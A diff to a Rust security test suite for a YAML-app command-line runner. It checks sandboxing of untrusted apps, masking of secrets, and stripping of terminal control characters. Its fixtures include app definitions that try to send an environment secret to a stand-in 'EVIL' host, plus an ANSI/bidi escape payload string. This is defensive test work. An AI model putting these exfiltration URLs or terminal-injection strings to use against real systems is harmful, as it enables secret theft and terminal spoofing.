@@ -8,6 +8,7 @@ use std::sync::{Arc, Mutex};
 use std::thread;
 use std::time::Duration;
 
+use crate::apps::Folder;
 use crate::cli::program;
 
 /// A server that answers every path, and remembers what it was asked.
@@ -88,12 +89,12 @@ View:
   body:
     Column:
       children:
-        - Text: {text: "secret: ${env.STRANGER_SECRET} home: ${home.body.ok}"}
+        - Text: {text: "secret: ${env.STRANGER_WORD} home: ${home.body.ok}"}
         - Image: {source: "EVIL/picture.png", width: 10, height: 10}
         - Image: {source: icon.png, width: 10, height: 10}
 API:
-  request: {url: "EVIL/request?k=${env.STRANGER_SECRET}"}
-  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_SECRET}"}
+  request: {url: "EVIL/request?k=${env.STRANGER_WORD}"}
+  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_WORD}"}
   redirected: {url: "HOME/away"}
   proxied: {type: sse, url: "HOME/proxied", sseOptions: {proxy: "EVIL"}}
   login: {url: "HOME/data", authorization: {oauth2: {tokenUrl: "EVIL/token", clientId: me, clientSecret: s}}}
@@ -102,6 +103,16 @@ API:
 
 /// Opens the stranger's app by its address, without a window. The two servers are its own and the one that it should not reach.
 fn open_stranger(args: &[&str]) -> (Output, Site, Site) {
+    let (home, evil) = servers();
+    let url = home.url("/app.yaml");
+    let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
+    all.extend(args);
+    let output = program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
+    (output, home, evil)
+}
+
+/// The server of the stranger's app, and the one that it should not reach.
+fn servers() -> (Site, Site) {
     let evil = Site::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
     let away = evil.url("/redirected");
     let addresses = Arc::new(Mutex::new((String::new(), evil.url(""))));
@@ -115,11 +126,7 @@ fn open_stranger(args: &[&str]) -> (Output, Site, Site) {
         }
     });
     addresses.lock().unwrap().0 = home.url("");
-    let url = home.url("/app.yaml");
-    let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
-    all.extend(args);
-    let output = program(&all).env("STRANGER_SECRET", "hunter2-of-the-process").output().unwrap();
-    (output, home, evil)
+    (home, evil)
 }
 
 fn texts(output: &Output) -> (String, String) {
@@ -145,7 +152,7 @@ fn an_app_from_the_network_reaches_its_own_server_only_and_reads_no_environment(
 
 #[test]
 fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
-    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_SECRET=given"]);
+    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_WORD=given"]);
     let (stdout, stderr) = texts(&output);
     let reached: BTreeSet<String> =
         ["/picture.png", "/redirected", "/request", "/stream", "/token"].into_iter().map(str::to_owned).collect();
@@ -158,6 +165,19 @@ fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
 }
 
 #[test]
+fn listening_to_a_stranger_reaches_what_its_window_would() {
+    let (home, evil) = servers();
+    let url = home.url("/app.yaml");
+    let args = ["listen", "--app", &url, "--api", "stream", "--format", "human", "--max-reconnect-attempts", "0"];
+    let (stdout, stderr) = texts(&program(&args).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap());
+    assert!(stdout.contains("--allow-host 127.0.0.1"), "{stdout}{stderr}");
+    assert_eq!(evil.asked(), [""; 0]);
+    let allowed = [&args[..], &["--allow-host", "127.0.0.1"]].concat();
+    program(&allowed).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
+    assert_eq!(evil.asked(), ["GET /stream?k= HTTP/1.1"]);
+}
+
+#[test]
 fn an_app_is_not_taken_from_another_server_than_was_named() {
     let evil = Site::start(|_| answer("200 OK", "", "View: {body: {Text: {text: evil}}}"));
     let away = evil.url("/app.yaml");
@@ -167,4 +187,178 @@ fn an_app_is_not_taken_from_another_server_than_was_named() {
     assert_eq!((output.status.code(), stdout.as_str()), (Some(1), ""), "{stderr}");
     assert!(stderr.contains("its server sends to") && stderr.contains("open that address"), "{stderr}");
     assert_eq!(evil.asked(), [""; 0]);
+}
+
+/// Everything that is printed of names, files and texts of strangers.
+#[test]
+fn no_command_lets_a_stranger_steer_the_terminal() {
+    const EVIL: &str = "\u{1b}[2J\u{9b}1m\u{202e}\u{7}\u{2066}x";
+    let name = format!("evil{EVIL}");
+    let text = format!(
+        "View:\n  title: \"{EVIL}\"\n  onLoad:\n    executeCode:\n      body: |-\n        console.log(\"{EVIL}\"); nothing.at;\n  body:\n    \
+         Column:\n      children:\n        - Text: {{text: \"{EVIL}\", colour: \"{EVIL}\"}} # {EVIL}\n        - \"Wid{EVIL}\": {{}}\n  \
+         \"key{EVIL}\": 1\nAPI:\n  feed: {{type: sse, url: \"http://127.0.0.1:9/{EVIL}\"}}\n"
+    );
+    // YAML takes no raw control characters, so it has them as escapes; comments and file names have what is left.
+    let escaped: String = text
+        .chars()
+        .map(|c| if ensemble_run::security::is_printable(c) { c.to_string() } else { format!("\\u{:04x}", c as u32) })
+        .collect();
+    let comment = format!("# \u{202e}\u{2066}{}\n", "comment");
+    let home = format!("{comment}{escaped}");
+    let test = format!("tests:\n  - id: \"t{}\"\n    steps:\n      - expectText: \"none\"\n", "\\u001b[2J\\u202e");
+    let folder = Folder::new(&name, &[("screens/Home.yaml", &home), ("tests/a.test.yaml", &test)]);
+    let path = folder.0.to_str().unwrap();
+    let missing = format!("{path}/no{EVIL}.yaml");
+    let events = Site::start(|_| {
+        let data = "\u{1b}[2J\u{9b}\u{202e}\u{7f}\u{2066}";
+        let body = format!(": {data}\nevent: {data}\nid: {data}\ndata: {{\"a\": \"\u{202e}\u{9b}\"}} {data}\n\n");
+        answer("200 OK", "Content-Type: text/event-stream\r\n", &body)
+    });
+    let stream = events.url("/feed");
+    let refusing =
+        Site::start(|_| answer("401 Unauthorized", "Content-Type: text/plain\r\n", "\u{1b}[2J\u{202e}\u{9b}no"));
+    let refused = refusing.url("/feed");
+    let commands: Vec<Vec<&str>> = vec![
+        vec!["check", path],
+        vec!["check", path, "--format", "json"],
+        vec!["check", &missing],
+        vec![&missing],
+        vec!["run", path, "--no-such", &name],
+        vec!["screenshot", path, "--tree", "-"],
+        vec!["screenshot", path, "--tree", "-", "--wait-text", &name, "--timeout", "300"],
+        vec!["test", path],
+        vec!["test", path, "--format", "json"],
+        vec!["test", path, "--format", "junit"],
+        vec!["test", path, &name],
+        vec!["export", "asyncapi", path],
+        vec!["listen", &stream, "--max-events", "1", "--format", "human", "--comments"],
+        vec!["listen", &stream, "--max-events", "1", "--format", "ndjson", "--comments"],
+        vec!["listen", &refused, "--format", "human"],
+        vec!["listen", &refused, "--format", "ndjson"],
+        vec!["listen", &name],
+        vec!["listen", "--app", path, "--api", &name],
+        vec!["view", &name],
+        vec!["simulate", &name],
+        vec!["explain", &name],
+        vec!["reference", &name],
+        vec!["demo", &name],
+        vec!["schema", &name],
+        vec!["new", path, "--from", &missing],
+    ];
+    for command in commands {
+        let output = program(&command).env("ENSEMBLE_LOG", EVIL.replace('\0', "")).output().unwrap();
+        let (stdout, stderr) = texts(&output);
+        for (stream, text) in [("stdout", &stdout), ("stderr", &stderr)] {
+            let steers = text.chars().find(|character| !ensemble_run::security::is_printable(*character));
+            assert_eq!(steers, None, "{command:?} on {stream}: {text:?}");
+        }
+        assert!(!stdout.is_empty() || !stderr.is_empty(), "{command:?} says something");
+    }
+}
+
+#[test]
+fn a_secret_is_printed_by_nobody() {
+    const SECRET: &str = "s3cr3t/of+the app";
+    let site = Site::start(|_| {
+        let said = format!("no tenant {SECRET} {} {}", "s3cr3t%2Fof%2Bthe%20app", "czNjcjN0L29mK3RoZSBhcHA=");
+        answer("401 Unauthorized", "Content-Type: text/plain\r\n", &said)
+    });
+    let home = format!(
+        "View:\n  onLoad:\n    executeActionGroup:\n      actions:\n        - invokeAPI: {{name: feed}}\n        - invokeAPI: {{name: other}}\n        \
+         - executeCode: console.log('it is ' + secrets.OTHER); null.x;\n  body:\n    Text: {{text: hello}}\nAPI:\n  \
+         feed: {{type: sse, url: \"{}\", headers: {{X-Tenant: \"${{secrets.OTHER}}\"}}}}\n  \
+         other: {{url: \"{}\", headers: {{X-Tenant: \"${{secrets.OTHER}}\"}}}}\n",
+        site.url("/feed"),
+        site.url("/other")
+    );
+    let folder =
+        Folder::new("secretive", &[("screens/Home.yaml", &home), (".env.secrets", &format!("OTHER=\"{SECRET}\"\n"))]);
+    let path = folder.0.to_str().unwrap();
+    let says = |args: &[&str], words: &str| {
+        let (stdout, stderr) = texts(&program(args).output().unwrap());
+        let all = stdout + &stderr;
+        assert!(all.contains(words), "{args:?}: {all}");
+        for form in [SECRET, "s3cr3t%2Fof%2Bthe%20app", "czNjcjN0L29mK3RoZSBhcHA"] {
+            assert!(!all.contains(form), "{args:?}: {all}");
+        }
+    };
+    says(&["screenshot", path, "--tree", "-", "--wait", "800"], "it is ***");
+    says(&["screenshot", path, "--tree", "-", "--wait", "800"], "no tenant *** *** ***");
+    says(&["listen", "--app", path, "--api", "feed", "--format", "human"], "no tenant ***");
+    says(&["listen", "--app", path, "--api", "feed", "--format", "ndjson"], "no tenant ***");
+    // The command line's own, in every form; a file of it is seen by nobody who lists the processes.
+    let token = folder.0.join("token");
+    std::fs::write(&token, "s3cr3t-token\n").unwrap();
+    let echo =
+        Site::start(|_| answer("401 Unauthorized", "Content-Type: text/plain\r\n", "bad s3cr3t-token and north-9"));
+    let url = echo.url("/x");
+    let headers = folder.0.join("headers");
+    std::fs::write(&headers, "X-Tenant: north-9\n").unwrap();
+    let (token, headers) = (token.to_str().unwrap(), format!("@{}", headers.display()));
+    let args = ["listen", &url, "--bearer-file", token, "--header", &headers, "--format", "human"];
+    let (stdout, stderr) = texts(&program(&args).output().unwrap());
+    let all = stdout + &stderr;
+    assert!(all.contains("bad *** and ***") && !all.contains("s3cr3t-token") && !all.contains("north-9"), "{all}");
+}
+
+#[test]
+fn a_local_app_reads_of_the_process_what_it_lists() {
+    let home = "View: {body: {Text: {text: \"<${env.LISTED_9} ${env.UNLISTED_9}>\"}}}\n";
+    let folder = Folder::new("env-listed", &[("screens/Home.yaml", home), (".env.config", "LISTED_9=\n")]);
+    let path = folder.0.to_str().unwrap();
+    let shown = |args: &[&str]| {
+        let command = [&["screenshot", path, "--tree", "-"], args].concat();
+        let output = program(&command).env("LISTED_9", "one").env("UNLISTED_9", "two").output().unwrap();
+        texts(&output).0
+    };
+    assert!(shown(&[]).contains("<one >"), "{}", shown(&[]));
+    assert!(shown(&["--env-from-process"]).contains("<one two>"), "{}", shown(&["--env-from-process"]));
+    let checked = program(&["check", path]).output().unwrap();
+    let (stdout, stderr) = texts(&checked);
+    assert!(stdout.contains("E0309") && stdout.contains("`env.UNLISTED_9`"), "{stdout}{stderr}");
+    assert!(!stdout.contains("LISTED_9` a value") || !stdout.contains("`env.LISTED_9`"), "{stdout}");
+}
+
+/// Files that write to a terminal beside `shell/terminal.rs`, and only what is the program's own: names of bundled apps, counters, and
+/// records in which everything else was shown by `terminal::shown`.
+const WRITERS: [&str; 4] =
+    ["src/cli/demo.rs", "src/cli/listen/mod.rs", "src/cli/listen/status.rs", "src/cli/new/live_stream.rs"];
+
+#[test]
+fn text_goes_to_a_terminal_in_one_place() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let mut open: Vec<std::path::PathBuf> =
+        ["src/cli", "src/shell", "src/testing"].map(|folder| root.join(folder)).into();
+    let (mut found, mut looked_at) = (Vec::new(), 0);
+    while let Some(path) = open.pop() {
+        if path.is_dir() {
+            open.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
+            continue;
+        }
+        let name = path.strip_prefix(root).unwrap().display().to_string();
+        if name == "src/shell/terminal.rs" || WRITERS.contains(&name.as_str()) || !name.ends_with(".rs") {
+            continue;
+        }
+        looked_at += 1;
+        let text = std::fs::read_to_string(&path).unwrap();
+        let code = text.split("#[cfg(test)]").next().unwrap();
+        let writes = |line: &str| {
+            let prints = [
+                "println!(",
+                "print!(",
+                "stdout().write",
+                "stdout().lock",
+                "stderr().write",
+                "(stderr()",
+                "(io::stderr()",
+            ];
+            prints.iter().any(|word| line.contains(word))
+                || line.contains("io::stdout()") && !line.contains("is_terminal")
+        };
+        let lines = code.lines().filter(|line| !line.trim_start().starts_with("//") && writes(line));
+        found.extend(lines.filter(|line| !line.contains("as_fd")).map(|line| format!("{name}: {}", line.trim())));
+    }
+    assert!(looked_at > 60, "the sources are where they were");
+    assert!(found.is_empty(), "not through shell/terminal.rs:\n{}", found.join("\n"));
 }
